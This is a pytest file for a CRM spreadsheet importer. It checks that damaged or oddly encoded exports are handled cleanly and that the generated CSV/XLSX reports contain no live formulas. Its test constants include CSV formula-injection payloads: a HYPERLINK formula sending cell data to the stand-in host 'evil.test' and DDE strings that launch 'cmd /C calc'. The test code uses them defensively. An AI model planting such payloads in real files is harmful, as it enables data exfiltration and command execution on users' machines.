"""Hostile and broken CRM exports, and formula-safe CRM spreadsheets.

Imports: every file is made here for real (NUL bytes, a DOS code page, Excel's "Unicode text",
a damaged workbook, a runaway quoted cell) and either imports what it holds or fails with an
InputError naming the file, having written nothing. Outputs: the rejects CSV and the match
report (CSV and XLSX) are read back cell by cell: no live formula, no cell a spreadsheet runs.
"""

from __future__ import annotations

import csv
import struct
import zipfile
from datetime import date, datetime
from pathlib import Path

import psycopg
import pytest
from openpyxl import load_workbook

from allpfit.config import Settings
from allpfit.crm.excel import import_file
from allpfit.crm.match import run_match
from allpfit.errors import ConfigError, InputError
from allpfit.spreadsheet import formula_like
from tests.crm.conftest import add_conversation
from tests.crm.test_excel import HEADERS, write_xlsx

HYPERLINK = '=HYPERLINK("http://evil.test/?d="&A1,"Ver cadastro")'
DDE = "=cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def _csv_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle, delimiter=";"))


def _assert_csv_safe(lines: list[list[str]]) -> None:
    """No cell a spreadsheet would run: a formula-like text is only ever there quote-prefixed."""
    for line in lines:
        for cell in line:
            assert not formula_like(cell), cell
            assert not cell.startswith(DANGEROUS_START) or cell.lstrip("-").isdigit(), cell


def _count(local: psycopg.Connection, table: str = "crm_customers") -> int:
    row = local.execute(f"SELECT count(*) FROM {table}").fetchone()  # noqa: S608 (fixed names)
    assert row is not None
    return int(row[0])


# --- imports that must work -------------------------------------------------------------


def test_a_nul_byte_in_a_csv_cell_is_dropped_and_every_row_imported(
    tmp_path: Path, local_url: str, local: psycopg.Connection, crm_settings: Settings
) -> None:
    path = tmp_path / "base.csv"
    path.write_bytes(
        b"ID;Nome;Celular;Data Cadastro\n"
        b"1;Ana\x00 Souza;11987654321;05/01/2026\n"
        b"2;Bia;119876\x0054322;06/01/2026\n"
    )
    result = import_file(local_url, path, crm_settings)
    assert (result.inserted, result.rejected) == (2, [])
    rows = local.execute("SELECT name, phone_normalized FROM crm_customers ORDER BY 1").fetchall()
    assert rows == [("Ana Souza", "+5511987654321"), ("Bia", "+5511987654322")]


def test_excels_unicode_text_utf16_tab_separated_is_imported(
    tmp_path: Path, local_url: str, local: psycopg.Connection, crm_settings: Settings
) -> None:
    """Excel's "Unicode text": UTF-16 LE with a BOM, tabs, CRLF; commas inside names."""
    path = tmp_path / "base.txt"
    lines = ["\t".join(HEADERS), "7\tAraújo, João\t(11) 98765-4321\t\t05/01/2026\t08/01/2026"]
    path.write_bytes("\r\n".join(lines).encode("utf-16"))
    assert path.read_bytes().startswith(b"\xff\xfe")
    result = import_file(local_url, path, crm_settings)
    assert result.file_format == "CSV, utf-16 (BOM), tab-separated"
    assert local.execute(
        "SELECT external_id, name, phone_normalized, conversion_date FROM crm_customers"
    ).fetchall() == [("7", "Araújo, João", "+5511987654321", date(2026, 1, 8))]


def test_a_csv_in_neither_utf8_nor_windows_1252_is_detected(
    tmp_path: Path, local_url: str, local: psycopg.Connection, crm_settings: Settings
) -> None:
    """Byte 0x81 is undefined in Windows-1252 (it used to raise UnboundLocalError); a DOS
    export in code page 850 holds it for "ü"."""
    path = tmp_path / "dos.csv"
    path.write_bytes(
        "ID;Nome;Celular;Data Cadastro\n1;Müller Conceição;11987654321;05/01/2026\n".encode("cp850")
    )
    assert b"\x81" in path.read_bytes()
    result = import_file(local_url, path, crm_settings)
    assert result.inserted == 1 and "(detected)" in result.file_format
    name = local.execute("SELECT name FROM crm_customers").fetchone()
    assert name is not None and name[0].startswith("Müller Concei")


# --- imports that must fail clearly and write nothing ------------------------------------


def _damaged_xlsx(tmp_path: Path, name: str, *, where: str) -> Path:
    """A real workbook whose worksheet's deflate stream is damaged at its start (zlib fails
    on open) or in its middle (the XML breaks only after some rows were read)."""
    rows: list[list[object]] = [HEADERS] + [
        [i, f"Nome {i}", f"1198765{i:04d}", None, "05/01/2026", None] for i in range(1, 400)
    ]
    good = write_xlsx(tmp_path / "good.xlsx", rows)
    raw = bytearray(good.read_bytes())
    with zipfile.ZipFile(good) as book:
        info = book.getinfo("xl/worksheets/sheet1.xml")
    name_len, extra_len = struct.unpack(
        "<HH", raw[info.header_offset + 26 : info.header_offset + 30]
    )
    data = info.header_offset + 30 + name_len + extra_len
    if where == "start":
        for i in range(data + 20, data + 60):
            raw[i] ^= 0xFF
    else:
        raw[data + info.compress_size // 2] ^= 0x01
    path = tmp_path / name
    path.write_bytes(bytes(raw))
    return path


def _refused(
    path: Path, local_url: str, local: psycopg.Connection, crm_settings: Settings
) -> InputError:
    with pytest.raises(InputError) as err:
        import_file(local_url, path, crm_settings)
    assert path.name in err.value.message and err.value.hint
    assert "nothing was imported" in err.value.message
    assert _count(local) == 0
    assert local.execute("SELECT status FROM crm_sync_runs").fetchall() == [("failed",)]
    assert not crm_settings.report_dir.exists() or not list(crm_settings.report_dir.iterdir())
    return err.value


@pytest.mark.parametrize(
    ("where", "expected"),
    [("start", "(zlib.error: Error -3 while decompressing"), ("middle", " after row ")],
)
def test_a_damaged_workbook_is_an_input_error(
    tmp_path: Path,
    local_url: str,
    local: psycopg.Connection,
    crm_settings: Settings,
    where: str,
    expected: str,
) -> None:
    path = _damaged_xlsx(tmp_path, "base_evo.xlsx", where=where)
    error = _refused(path, local_url, local, crm_settings)
    assert "cannot be read as an Excel workbook" in error.message and expected in error.message
    assert "export the CRM base again" in (error.hint or "")


def test_a_cell_over_the_csv_field_limit_is_an_input_error(
    tmp_path: Path, local_url: str, local: psycopg.Connection, crm_settings: Settings
) -> None:
    path = tmp_path / "base.csv"
    path.write_text(
        "ID;Nome;Celular;Data Cadastro\n"
        "1;Ana;11987654321;05/01/2026\n"
        f"2;{'x' * 140_000};11987654322;05/01/2026\n",
        encoding="utf-8",
    )
    error = _refused(path, local_url, local, crm_settings)
    assert "row 3 has a cell longer than 131,072 characters" in error.message
    assert "quote" in (error.hint or "")


def test_an_unclosed_quote_swallowing_the_file_is_an_input_error(
    tmp_path: Path, local_url: str, local: psycopg.Connection, crm_settings: Settings
) -> None:
    body = "".join(f"{i};Nome {i};1198765{i:04d};05/01/2026\n" for i in range(3, 6000))
    path = tmp_path / "base.csv"
    path.write_text(
        'ID;Nome;Celular;Data Cadastro\n1;Ana;11987654321;05/01/2026\n2;"Bia;11987654322;\n' + body,
        encoding="utf-8",
    )
    error = _refused(path, local_url, local, crm_settings)
    assert "row 3 has a cell longer than" in error.message


def test_bytes_in_no_known_encoding_are_an_input_error(
    tmp_path: Path, local_url: str, local: psycopg.Connection, crm_settings: Settings
) -> None:
    path = tmp_path / "base.csv"
    path.write_bytes(bytes(range(256)) * 8)
    error = _refused(path, local_url, local, crm_settings)
    assert "cannot tell the text encoding" in error.message
    assert "CSV UTF-8" in (error.hint or "")


# --- what the product writes ------------------------------------------------------------


def test_the_rejects_csv_never_holds_a_formula(
    tmp_path: Path, local_url: str, local: psycopg.Connection, crm_settings: Settings
) -> None:
    """The export's own cells (a CSV keeps them as typed) come back as text, header too."""
    path = tmp_path / "base.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, delimiter=";").writerows(
            [
                [*HEADERS, DDE],
                [1, HYPERLINK, "=1+1", AT, "05/01/2026", None, MINUS],
                [2, "+55 11 98765-4321", None, None, "05/01/2026", None, "-7"],
                [3, "Ana", "11987654321", None, "05/01/2026", None, None],
            ]
        )
    result = import_file(local_url, path, crm_settings)
    assert result.inserted == 1 and [r.row for r in result.rejected] == [2, 3]
    assert result.rejects_file is not None
    lines = _csv_cells(result.rejects_file)
    _assert_csv_safe(lines)
    assert lines[0] == ["linha", "motivo", *HEADERS, "'" + DDE]
    assert lines[1] == [
        "2",
        "phone: too short to be a phone number",
        "1",
        "'" + HYPERLINK,
        "'=1+1",
        "'" + AT,
        "05/01/2026",
        "",
        "'" + MINUS,
    ]
    assert lines[2][3] == "'+55 11 98765-4321" and lines[2][-1] == "-7"  # a number stays one


def _hostile_match(local: psycopg.Connection, crm_settings: Settings, local_url: str) -> None:
    """Three converted leads whose CRM names are injection payloads, one ambiguous phone."""
    first = datetime(2026, 1, 5, 14)
    for i, phone in enumerate(["+5511987650001", "+5511987650002", "+5511987650003"], 1):
        add_conversation(local, i, phone, first)
    add_conversation(local, 4, "+5511987650004", first)
    customers = [
        (1, HYPERLINK, "11987650001"),
        (2, DDE, "11987650002"),
        (3, AT, "11987650003"),
        (4, MINUS, "11987650004"),
        (5, "+ Outra Pessoa", "11987650004"),
    ]
    for external_id, name, phone in customers:
        local.execute(
            """INSERT INTO crm_customers (source, external_id, name, phone_raw, conversion_date)
               VALUES ('excel', %s, %s, %s, %s)""",
            (str(external_id), name, phone, date(2026, 1, 9)),
        )


def test_the_match_report_never_holds_a_formula(
    local_url: str, local: psycopg.Connection, crm_settings: Settings
) -> None:
    _hostile_match(local, crm_settings, local_url)
    result = run_match(local_url, crm_settings)
    assert result.conversions == 3 and len(result.ambiguous) == 1
    assert result.report_csv is not None and result.report_xlsx is not None
    lines = _csv_cells(result.report_csv)
    _assert_csv_safe(lines)
    names = sorted(line[5] for line in lines[1:])
    assert names == sorted("'" + n for n in (HYPERLINK, DDE, AT))
    book = load_workbook(result.report_xlsx)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [f"{c.parent.title}!{c.coordinate}" for c in cells if c.data_type == "f"]
    sheet = book["Conversões"]
    assert sorted(sheet.cell(r, 6).value for r in range(2, 5)) == sorted([HYPERLINK, DDE, AT])
    assert all(sheet.cell(r, 6).quotePrefix for r in range(2, 5))
    assert {sheet.cell(r, 12).data_type for r in range(2, 5)} == {"n"}  # days stay numbers
    ambiguous = book["Telefones ambíguos"].cell(2, 5)
    assert ambiguous.value.startswith(MINUS) and ambiguous.quotePrefix
    # the database keeps the names exactly as the CRM has them: escaping is for files only
    stored = local.execute("SELECT crm_customer_name FROM conversas_crm_match_real").fetchall()
    assert sorted(r[0] for r in stored) == sorted([HYPERLINK, DDE, AT])


def test_a_report_that_cannot_be_written_fails_the_run_and_changes_nothing(
    local_url: str, local: psycopg.Connection, crm_settings: Settings
) -> None:
    _hostile_match(local, crm_settings, local_url)
    local.execute("DELETE FROM crm_customers WHERE external_id = '3'")
    first = run_match(local_url, crm_settings)
    assert first.conversions == 2
    local.execute(
        """INSERT INTO crm_customers (source, external_id, name, phone_raw, conversion_date)
           VALUES ('excel', '3', 'Caio', '11987650003', '2026-01-09')"""
    )
    for old in crm_settings.report_dir.iterdir():
        old.unlink()
    crm_settings.report_dir.rmdir()
    crm_settings.report_dir.write_text("a file where the reports folder should be")
    with pytest.raises(ConfigError) as err:
        run_match(local_url, crm_settings)
    assert f"Cannot write {crm_settings.report_dir}" in err.value.message
    assert _count(local, "conversas_crm_match_real") == 2  # the earlier result, untouched
    runs = local.execute("SELECT status, error_message FROM crm_sync_runs ORDER BY id").fetchall()
    assert [r[0] for r in runs] == ["success", "failed"]
    assert "Cannot write" in runs[1][1]
